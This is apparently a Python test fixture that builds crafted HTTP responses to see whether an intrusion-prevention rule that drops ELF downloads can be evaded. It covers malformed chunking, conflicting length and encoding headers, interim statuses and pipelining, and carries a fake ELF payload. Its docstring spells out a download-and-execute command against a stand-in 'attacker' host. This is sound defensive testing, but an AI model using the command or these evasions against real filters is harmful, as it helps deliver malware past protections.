"""The crafted HTTP responses of the response-side differential test.

Each entry of `CASES` is a `Case`: `respond(path)` returns the byte chunks
the server writes (one `send` each, with a pause between them) in answer to
a request for `path` (every client asks for "/x"; only the redirect cases
answer another path otherwise). The payload is `ELF`, a fake executable:
the ELF magic and 200 bytes of filler (every byte value occurs, CR and LF
included, as in a real binary).

The threat: a loader makes a device run `wget http://attacker/x -O /tmp/x`
and then executes /tmp/x. The shipped loader patch (sid 9100120) drops a
response whose body (file.data: de-chunked, gzip/deflate-decoded) starts
with the ELF magic; the attacker frames the response so that the client
still saves the ELF while the box does not drop it (response_run.py replays
every case through the real pipeline). The families:

* baseline / close: Content-Length, a body to the close, HTTP/1.0.
* chunk syntax: extensions, leading zeros, "0x", blanks, LF-only, no end.
* transfer-encoding: values and placements, each with a chunked and a raw
  body (a client that does not take the header for chunked reads it raw).
* content-length: two values, signs, junk, folding, too short or long.
* content-encoding: gzip, deflate (zlib and raw), two layers, labels that
  lie, codings the parser does not undo (br, zstd: curl --compressed does).
* interim / status: 1xx before the final response, 0xx, 101, 204/304 with
  a body, status-line oddities, HTTP/0.9 (no status line at all).
* headers: folding, no colon, NUL, CR-only or LF-only lines, a header
  section larger than the parser keeps.
* connection: redirects, a response before the request, pipelined
  responses, tiny writes.
"""
from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable
from dataclasses import dataclass

FILLER = bytes((index * 37 + 11) % 256 for index in range(200))
ELF = b"\x7fELF" + FILLER
"""The payload: what the virtual patch must see at the start of file.data."""
TEXT = b"not an executable\n"
"""The body of the harmless answers (redirect targets, decoys)."""
PATH = b"/x"
"""The path every client asks for."""
NEXT = b"/next"
"""Where the redirect cases send the client."""
BASELINE = "cl"


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    respond: Callable[[bytes], list[bytes]]
    early: bool = False
    """Write the response as soon as the connection is accepted, before
    reading the request."""


# -- building blocks ------------------------------------------------------------------

def head(status: bytes = b"HTTP/1.1 200 OK", *headers: bytes, eol: bytes = b"\r\n") -> bytes:
    """A status line and headers, ended by the blank line."""
    return b"".join(line + eol for line in (status, *headers)) + eol


def cl(body: bytes = ELF) -> bytes:
    return b"Content-Length: %d" % len(body)


def chunked(body: bytes = ELF, size: bytes = b"%x", eol: bytes = b"\r\n", pieces: int = 2,
            last: bytes | None = b"0") -> bytes:
    """`body` in `pieces` chunks; `size` formats each chunk size (from its
    int); `last`: the last-chunk line (None: no end at all)."""
    step = -(-len(body) // pieces)
    out = b""
    for start in range(0, len(body), step):
        piece = body[start:start + step]
        out += size % len(piece) + eol + piece + eol
    if last is not None:
        out += last + eol + eol
    return out


def brotli_stored(data: bytes) -> bytes:
    """A brotli stream holding `data` as one uncompressed meta-block
    (RFC 7932): WBITS 16, ISLAST 0, MNIBBLES 4, MLEN-1, ISUNCOMPRESSED,
    padding; the data; then an empty last meta-block."""
    bits = 0 | (0 << 1) | (0 << 2) | ((len(data) - 1) << 4) | (1 << 20)
    return bits.to_bytes(3, "little") + data + b"\x03"


def zstd_raw(data: bytes) -> bytes:
    """A zstd frame holding `data` as one raw block (RFC 8878): single
    segment, one-byte content size, no checksum."""
    return (b"\x28\xb5\x2f\xfd" + b"\x20" + bytes([len(data)])
            + ((len(data) << 3) | 1).to_bytes(3, "little") + data)


GZIP = gzip.compress(ELF, mtime=0)
ZLIB = zlib.compress(ELF)
_raw = zlib.compressobj(wbits=-15)
RAW_DEFLATE = _raw.compress(ELF) + _raw.flush()


def fixed(*chunks: bytes) -> Callable[[bytes], list[bytes]]:
    """The same writes whatever is asked."""
    return lambda _path: list(chunks)


def simple(status: bytes, *headers: bytes, body: bytes = ELF, eol: bytes = b"\r\n"
           ) -> Callable[[bytes], list[bytes]]:
    """Head and body in two writes."""
    return fixed(head(status, *headers, eol=eol), body)


def redirect(first: list[bytes], second: list[bytes]) -> Callable[[bytes], list[bytes]]:
    """`first` for PATH, `second` for the redirect target."""
    return lambda path: first if path == PATH else second


OK = b"HTTP/1.1 200 OK"
TE = b"Transfer-Encoding: chunked"


def _te_cases() -> list[Case]:
    """Each odd Transfer-Encoding with a chunked and a raw body."""
    variants = {
        "chunked-identity": [b"Transfer-Encoding: chunked, identity"],
        "identity-chunked": [b"Transfer-Encoding: identity, chunked"],
        "xchunked": [b"Transfer-Encoding: xchunked"],
        "space-before-colon": [b"Transfer-Encoding : chunked"],
        "Chunked": [b"Transfer-Encoding: Chunked"],
        "CHUNKED": [b"Transfer-Encoding: CHUNKED"],
        "dup-identity-first": [b"Transfer-Encoding: identity", TE],
        "dup-chunked-first": [TE, b"Transfer-Encoding: identity"],
        "dup-chunked-twice": [TE, TE],
        "folded": [b"Transfer-Encoding:", b" chunked"],
        "nul": [b"Transfer-Encoding: chunked\x00"],
        "identity": [b"Transfer-Encoding: identity"],
        "gzip-chunked": [b"Transfer-Encoding: gzip, chunked"],
        "chunked-semicolon": [b"Transfer-Encoding: chunked;q=1"],
        "http10": [TE],
    }
    cases = []
    for name, headers in variants.items():
        status = b"HTTP/1.0 200 OK" if name == "http10" else OK
        cases.append(Case(f"te-{name}/chunked-body", "transfer-encoding", simple(status, *headers, body=chunked())))
        cases.append(Case(f"te-{name}/raw-body", "transfer-encoding", simple(status, *headers)))
    return cases


def _many_headers() -> bytes:
    """A header section of ~70 KB (over the parser's 64 KiB)."""
    return b"".join(b"X-Pad-%04d: %s\r\n" % (index, b"a" * 60) for index in range(1000))


CASES: list[Case] = [
    # baseline / close
    Case("cl", "baseline", simple(OK, cl())),
    Case("close", "baseline", simple(OK)),
    Case("close-connection-close", "baseline", simple(OK, b"Connection: close")),
    Case("http10", "baseline", simple(b"HTTP/1.0 200 OK")),
    Case("http10-cl", "baseline", simple(b"HTTP/1.0 200 OK", cl())),
    Case("one-write", "baseline", fixed(head(OK, cl()) + ELF)),
    # chunk syntax
    Case("chunked", "chunk syntax", simple(OK, TE, body=chunked())),
    Case("chunk-single", "chunk syntax", simple(OK, TE, body=chunked(pieces=1))),
    Case("chunk-extension", "chunk syntax", simple(OK, TE, body=chunked(size=b"%x;name=value"))),
    Case("chunk-leading-zeros", "chunk syntax", simple(OK, TE, body=chunked(size=b"0000000%x"))),
    Case("chunk-upper-hex", "chunk syntax", simple(OK, TE, body=chunked(size=b"%X", pieces=1))),
    Case("chunk-0x", "chunk syntax", simple(OK, TE, body=chunked(size=b"0x%x"))),
    Case("chunk-space-before", "chunk syntax", simple(OK, TE, body=chunked(size=b"  %x"))),
    Case("chunk-tab-after", "chunk syntax", simple(OK, TE, body=chunked(size=b"%x\t"))),
    Case("chunk-space-after", "chunk syntax", simple(OK, TE, body=chunked(size=b"%x  "))),
    Case("chunk-lf", "chunk syntax", simple(OK, TE, body=chunked(eol=b"\n"))),
    Case("chunk-lf-everywhere", "chunk syntax", simple(OK, TE, body=chunked(eol=b"\n"), eol=b"\n")),
    Case("chunk-no-last", "chunk syntax", simple(OK, TE, body=chunked(last=None))),
    Case("chunk-tiny", "chunk syntax", simple(OK, TE, body=chunked(pieces=len(ELF)))),
    Case("chunk-plus", "chunk syntax", simple(OK, TE, body=chunked(size=b"+%x"))),
    Case("chunk-negative", "chunk syntax", simple(OK, TE, body=chunked(size=b"-%x"))),
    Case("chunk-overflow", "chunk syntax", simple(OK, TE, body=chunked(size=b"1000000000000000%x"))),
    Case("chunk-missing-crlf", "chunk syntax",
         simple(OK, TE, body=b"%x\r\n" % len(ELF) + ELF + b"0\r\n\r\n")),
    Case("chunk-empty-line-first", "chunk syntax", simple(OK, TE, body=b"\r\n" + chunked())),
    Case("chunk-zero-first", "chunk syntax", simple(OK, TE, body=b"0\r\n\r\n" + chunked())),
    Case("chunk-trailer", "chunk syntax", simple(OK, TE, body=chunked(last=b"0\r\nX-T: 1"))),
    *_te_cases(),
    # content-length
    Case("cl+te/chunked-body", "content-length", simple(OK, cl(chunked()), TE, body=chunked())),
    Case("te+cl/chunked-body", "content-length", simple(OK, TE, cl(chunked()), body=chunked())),
    Case("cl+te/raw-body", "content-length", simple(OK, cl(), TE)),
    Case("cl-dup-small-first", "content-length", simple(OK, b"Content-Length: 2", cl())),
    Case("cl-dup-small-second", "content-length", simple(OK, cl(), b"Content-Length: 2")),
    Case("cl-comma-list", "content-length", simple(OK, b"Content-Length: 2, %d" % len(ELF))),
    Case("cl-comma-same", "content-length", simple(OK, b"Content-Length: %d, %d" % (len(ELF), len(ELF)))),
    Case("cl-plus", "content-length", simple(OK, b"Content-Length: +%d" % len(ELF))),
    Case("cl-leading-zeros", "content-length", simple(OK, b"Content-Length: 000%d" % len(ELF))),
    Case("cl-spaces", "content-length", simple(OK, b"Content-Length:    %d   " % len(ELF))),
    Case("cl-space-inside", "content-length", simple(OK, b"Content-Length: 2 %d" % len(ELF))),
    Case("cl-trailing-junk", "content-length", simple(OK, b"Content-Length: %dabc" % len(ELF))),
    Case("cl-leading-junk", "content-length", simple(OK, b"Content-Length: abc%d" % len(ELF))),
    Case("cl-hex", "content-length", simple(OK, b"Content-Length: 0x%x" % len(ELF))),
    Case("cl-negative", "content-length", simple(OK, b"Content-Length: -1")),
    Case("cl-empty", "content-length", simple(OK, b"Content-Length: ")),
    Case("cl-huge", "content-length", simple(OK, b"Content-Length: 99999999999999999999")),
    Case("cl-folded", "content-length", simple(OK, b"Content-Length:", b" %d" % len(ELF))),
    Case("cl-space-before-colon", "content-length", simple(OK, b"Content-Length : 2")),
    Case("cl-short", "content-length", simple(OK, b"Content-Length: 2")),
    Case("cl-longer", "content-length", simple(OK, b"Content-Length: 1000")),
    Case("cl-zero-then-elf", "content-length", simple(OK, b"Content-Length: 0")),
    Case("cl-zero-then-elf-response", "content-length",
         fixed(head(OK, b"Content-Length: 0") + head(OK, cl()) + ELF)),
    # content-encoding
    Case("gzip", "content-encoding", simple(OK, b"Content-Encoding: gzip", cl(GZIP), body=GZIP)),
    Case("x-gzip", "content-encoding", simple(OK, b"Content-Encoding: x-gzip", cl(GZIP), body=GZIP)),
    Case("gzip-chunked", "content-encoding", simple(OK, b"Content-Encoding: gzip", TE, body=chunked(GZIP))),
    Case("deflate-zlib", "content-encoding", simple(OK, b"Content-Encoding: deflate", cl(ZLIB), body=ZLIB)),
    Case("deflate-raw", "content-encoding",
         simple(OK, b"Content-Encoding: deflate", cl(RAW_DEFLATE), body=RAW_DEFLATE)),
    Case("gzip-label-raw-deflate", "content-encoding",
         simple(OK, b"Content-Encoding: gzip", cl(RAW_DEFLATE), body=RAW_DEFLATE)),
    Case("gzip-gzip", "content-encoding",
         simple(OK, b"Content-Encoding: gzip, gzip", body=gzip.compress(GZIP, mtime=0))),
    Case("gzip-gzip-single-body", "content-encoding", simple(OK, b"Content-Encoding: gzip, gzip", cl(GZIP), body=GZIP)),
    Case("gzip-two-headers", "content-encoding",
         simple(OK, b"Content-Encoding: gzip", b"Content-Encoding: gzip", body=gzip.compress(GZIP, mtime=0))),
    Case("gzip-multimember", "content-encoding",
         simple(OK, b"Content-Encoding: gzip", body=gzip.compress(b"", mtime=0) + GZIP)),
    Case("gzip-uppercase", "content-encoding", simple(OK, b"Content-Encoding: GZIP", cl(GZIP), body=GZIP)),
    Case("gzip-parameter", "content-encoding", simple(OK, b"Content-Encoding: gzip;q=1", cl(GZIP), body=GZIP)),
    Case("gzip-nul", "content-encoding", simple(OK, b"Content-Encoding: gzip\x00", cl(GZIP), body=GZIP)),
    Case("gzip-folded", "content-encoding", simple(OK, b"Content-Encoding:", b" gzip", cl(GZIP), body=GZIP)),
    Case("unknown-coding-plain", "content-encoding", simple(OK, b"Content-Encoding: foo", cl())),
    Case("identity-coding-plain", "content-encoding", simple(OK, b"Content-Encoding: identity", cl())),
    Case("gzip-label-plain", "content-encoding", simple(OK, b"Content-Encoding: gzip", cl())),
    Case("gzip-label-plain-1st-byte-alone", "content-encoding",
         fixed(head(OK, b"Content-Encoding: gzip", cl()), ELF[:1], ELF[1:])),
    Case("deflate-label-plain-1st-byte-alone", "content-encoding",
         fixed(head(OK, b"Content-Encoding: deflate", cl()), ELF[:1], ELF[1:])),
    Case("gzip-label-plain-chunked-1st-byte", "content-encoding",
         simple(OK, b"Content-Encoding: gzip", TE, body=b"1\r\n" + ELF[:1] + b"\r\n" + chunked(ELF[1:], pieces=1))),
    Case("gzip-gzip-label-plain", "content-encoding", simple(OK, b"Content-Encoding: gzip, gzip", cl())),
    Case("br", "content-encoding",
         simple(OK, b"Content-Encoding: br", cl(brotli_stored(ELF)), body=brotli_stored(ELF))),
    Case("zstd", "content-encoding", simple(OK, b"Content-Encoding: zstd", cl(zstd_raw(ELF)), body=zstd_raw(ELF))),
    Case("gzip-br", "content-encoding",
         simple(OK, b"Content-Encoding: gzip, br", body=brotli_stored(GZIP))),
    # interim / status
    Case("100-continue", "interim", fixed(head(b"HTTP/1.1 100 Continue"), head(OK, cl()), ELF)),
    Case("102-processing", "interim", fixed(head(b"HTTP/1.1 102 Processing"), head(OK, cl()), ELF)),
    Case("103-early-hints", "interim",
         fixed(head(b"HTTP/1.1 103 Early Hints", b"Link: </s.css>; rel=preload"), head(OK, cl()), ELF)),
    Case("199-interim", "interim", fixed(head(b"HTTP/1.1 199 Odd"), head(OK, cl()), ELF)),
    Case("101-then-200", "interim", fixed(head(b"HTTP/1.1 101 Switching Protocols"), head(OK, cl()), ELF)),
    Case("000-then-200", "interim", fixed(head(b"HTTP/1.1 000 Zero"), head(OK, cl()), ELF)),
    Case("100-then-http09", "interim", fixed(head(b"HTTP/1.1 100 Continue"), ELF)),
    Case("100-with-cl-elf", "interim", fixed(head(b"HTTP/1.1 100 Continue", cl()), ELF)),
    Case("204-with-body", "status", simple(b"HTTP/1.1 204 No Content")),
    Case("204-with-cl-body", "status", simple(b"HTTP/1.1 204 No Content", cl())),
    Case("304-with-body", "status", simple(b"HTTP/1.1 304 Not Modified")),
    Case("304-with-cl-body", "status", simple(b"HTTP/1.1 304 Not Modified", cl())),
    Case("206-partial", "status",
         simple(b"HTTP/1.1 206 Partial Content", b"Content-Range: bytes 0-%d/%d" % (len(ELF) - 1, len(ELF)), cl())),
    Case("404-with-elf", "status", simple(b"HTTP/1.1 404 Not Found", cl())),
    Case("status-no-reason", "status", simple(b"HTTP/1.1 200", cl())),
    Case("status-200OK", "status", simple(b"HTTP/1.1 200OK", cl())),
    Case("status-lowercase", "status", simple(b"http/1.1 200 OK", cl())),
    Case("status-double-space", "status", simple(b"HTTP/1.1  200 OK", cl())),
    Case("status-tab", "status", simple(b"HTTP/1.1\t200\tOK", cl())),
    Case("status-leading-space", "status", simple(b" HTTP/1.1 200 OK", cl())),
    Case("status-http2", "status", simple(b"HTTP/2 200", cl())),
    Case("status-http12", "status", simple(b"HTTP/1.2 200 OK", cl())),
    Case("status-icy", "status", simple(b"ICY 200 OK", cl())),
    Case("status-2000", "status", simple(b"HTTP/1.1 2000 OK", cl())),
    Case("status-blank-lines-before", "status", fixed(b"\r\n\r\n" + head(OK, cl()), ELF)),
    Case("status-junk-line-before", "status", fixed(b"junk\r\n" + head(OK, cl()), ELF)),
    Case("http09-raw-elf", "status", fixed(ELF)),
    Case("http09-raw-elf-split", "status", fixed(ELF[:4], ELF[4:])),
    # headers
    Case("header-folding", "headers", simple(OK, b"X-A: 1", b" 2", cl())),
    Case("header-no-colon", "headers", simple(OK, b"NoColonHere", cl())),
    Case("header-first-folded", "headers", simple(OK, b" X-A: 1", cl())),
    Case("header-nul", "headers", simple(OK, b"X-A: a\x00b", cl())),
    Case("header-lf-only", "headers", simple(OK, cl(), eol=b"\n")),
    Case("header-cr-only", "headers", simple(OK, cl(), eol=b"\r")),
    Case("header-cr-only-close", "headers", simple(OK, b"X-A: 1", eol=b"\r")),
    Case("header-crcrlf", "headers", fixed(OK + b"\r\n" + cl() + b"\r\r\n\r\n", ELF)),
    Case("header-end-lf-crlf", "headers", fixed(OK + b"\r\n" + cl() + b"\n\r\n", ELF)),
    *(Case(f"header-end-{label}", "headers", fixed(OK + b"\r\n" + cl() + b"\r\n" + blank, ELF))
      for label, blank in (("space-line", b" \r\n"), ("tab-line", b"\t\r\n"), ("cr-junk-line", b"\rjunk\r\n"),
                           ("cr-cr-lf", b"\r\r\n"), ("nul-line", b"\x00\r\n"))),
    Case("header-huge-section", "headers", fixed(OK + b"\r\n" + _many_headers() + cl() + b"\r\n\r\n", ELF)),
    Case("header-huge-section-close", "headers", fixed(OK + b"\r\n" + _many_headers() + b"\r\n", ELF)),
    # connection
    Case("redirect-body-elf", "connection",
         redirect([head(b"HTTP/1.1 302 Found", b"Location: /next", cl()), ELF],
                  [head(OK, cl(TEXT)), TEXT])),
    Case("redirect-to-elf", "connection",
         redirect([head(b"HTTP/1.1 302 Found", b"Location: /next", cl(TEXT)), TEXT],
                  [head(OK, cl()), ELF])),
    Case("early-response", "connection", fixed(head(OK, cl()), ELF), early=True),
    Case("early-response-close", "connection", fixed(head(OK), ELF), early=True),
    Case("pipelined-decoy-first", "connection", fixed(head(OK, cl(TEXT)) + TEXT + head(OK, cl()) + ELF)),
    Case("tiny-writes", "connection",
         fixed(head(OK, cl()), *(ELF[index:index + 1] for index in range(8)), ELF[8:])),
    Case("tiny-writes-head", "connection",
         fixed(*(bytes([byte]) for byte in head(OK, cl())), ELF)),
]
